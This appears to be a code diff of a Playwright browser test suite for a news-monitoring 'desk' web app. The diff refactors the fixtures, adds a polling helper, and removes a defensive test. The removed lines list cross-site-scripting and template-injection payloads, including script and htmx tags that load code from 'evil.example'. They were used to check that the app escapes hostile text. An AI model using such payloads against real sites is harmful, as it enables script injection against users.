@@ -1,64 +1,24 @@
-"""The desk in a real browser: decisions by keyboard alone, two people, no JavaScript, a phone, hostile words."""
+"""The desk in a real browser: decisions by keyboard alone, two people, no JavaScript, a phone."""
 
 from __future__ import annotations
 
-import shutil
 from collections.abc import Iterator
-from contextlib import contextmanager
-from dataclasses import replace
 from pathlib import Path
-from typing import Any
 
 import pytest
-from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
+from playwright.sync_api import Browser, Page, expect
 
-from crawler.items import CompanyMention
 from desk.wiring import Wiring
+from tests.desk.web.looking import looking, opened
 from tests.storage.building import figure, judged, page, reading, stored
 
 pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]
-HOSTILE = (
-    "<script>window.hit=1</script>",
-    "<img src=x onerror='window.hit=1'>",
-    '"><svg onload=window.hit=1>',
-    "</textarea></title><script src=//evil.example/x.js></script>",
-    "javascript:window.hit=1",
-    "{{ 7*7 }}${7*7}",
-    "' onmouseover='window.hit=1",
-    '<a href="javascript:window.hit=1" autofocus onfocus=window.hit=1>x</a>',
-    '<iframe srcdoc="<script>parent.hit=1</script>">',
-    "<div hx-get=//evil.example hx-trigger=load>x</div>",
-)
 
 
 @pytest.fixture(scope="module")
 def browser() -> Iterator[Browser]:
-    path = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
-    if path is None:
-        pytest.fail("no browser is installed: `apt-get install chromium`, then run the tests again", pytrace=False)
-    with sync_playwright() as playwright:
-        opened = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
-        yield opened
-        opened.close()
-
-
-@contextmanager
-def looking(browser: Browser, address: str, **options: Any) -> Iterator[Page]:
-    """A page of a person of their own, who is told of every error and every address that was asked."""
-    context: BrowserContext = browser.new_context(base_url=address, **options)
-    context.set_default_timeout(5000)
-    shown = context.new_page()
-    errors: list[str] = []
-    shown.on("pageerror", lambda error: errors.append(str(error)))
-    shown.on("console", lambda message: errors.append(message.text) if message.type == "error" else None)
-    shown.on(
-        "request",
-        lambda request: errors.append(request.url) if not request.url.startswith((address, "data:")) else None,
-    )
-    yield shown
-    context.close()
-    unexpected = [error for error in errors if "status of 409" not in error and "status of 422" not in error]
-    assert unexpected == []
+    with opened() as launched:
+        yield launched
 
 
 @pytest.fixture
@@ -69,6 +29,15 @@ def twenty(wiring: Wiring) -> Wiring:
         read = reading(f"商汤{number}", told, title=f"第{number}条")
         wiring.store.take_in(page(f"many-{number}"), read, stored(read, judged(told)))
     return wiring
+
+
+def settled(desk: Page, wiring: Wiring, states: dict[str, int]) -> None:
+    """Waits until so many flags are in these states."""
+    for _ in range(250):
+        if wiring.store.flags.counts() == states:
+            return
+        desk.wait_for_timeout(20)
+    assert wiring.store.flags.counts() == states
 
 
 def test_twenty_flags_by_keyboard_alone_and_undo(browser: Browser, served: str, twenty: Wiring) -> None:
@@ -84,11 +53,10 @@ def test_twenty_flags_by_keyboard_alone_and_undo(browser: Browser, served: str, 
             else:
                 desk.keyboard.press("a")
             expect(desk.locator(f"#flag-{id}")).not_to_have_attribute("data-state", "waiting")
-        counts = twenty.store.flags.counts()
-        assert (counts["accepted"], counts["rejected"], counts["waiting"]) == (15, 5, 3)
+        settled(desk, twenty, {"accepted": 15, "rejected": 5, "waiting": 3})
         desk.keyboard.press("u")
         expect(desk.locator(f"#flag-{id}")).to_have_attribute("data-state", "waiting")
-        assert twenty.store.flags.counts()["rejected"] == 4
+        settled(desk, twenty, {"accepted": 15, "rejected": 4, "waiting": 4})
 
 
 def test_the_other_keys(browser: Browser, served: str, wiring: Wiring) -> None:
@@ -158,37 +126,6 @@ def test_charts_are_drawn(browser: Browser, served: str) -> None:
     with looking(browser, served) as desk:
         desk.goto("/companies/sensetime?currency=CNY")
         expect(desk.locator(".uplot canvas")).to_have_count(4)
-
-
-def test_hostile_words_run_nothing_and_load_nothing(browser: Browser, served: str, wiring: Wiring) -> None:
-    for number, words in enumerate(HOSTILE):
-        told = figure(event=f"h{number}", quote=words, written="", round=words, start=0, end=0)
-        read = reading(words, told, title=words, outlet=words, author=words, origin=words)
-        read = replace(read, companies=(CompanyMention("sensetime", 1, True),))
-        kept = page(
-            f"hostile-{number}", outlet=words, body=f"<html>{words}<p>x</p></html>".encode(), content_type="text/html"
-        )
-        kept = replace(kept, archived=wiring.archive.keep(kept))
-        wiring.store.take_in(kept, read, stored(read, judged(told)))
-    articles = [row.id for row in wiring.store.articles.find(limit=100)]
-    with looking(browser, served) as desk:
-        for path in (
-            "/",
-            "/stories",
-            "/articles",
-            "/figures",
-            "/companies/sensetime",
-            *(f"/articles/{id}" for id in articles),
-        ):
-            desk.goto(path)
-            assert desk.evaluate("window.hit") is None, path
-    with looking(browser, served, java_script_enabled=True) as sealed:
-        sealed.on("pageerror", lambda error: None)
-        for id in articles[-3:]:
-            answer = sealed.request.get(f"/articles/{id}/page")
-            assert answer.headers.get("content-security-policy", "sandbox").startswith(
-                ("sandbox", "default-src 'none'")
-            )
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
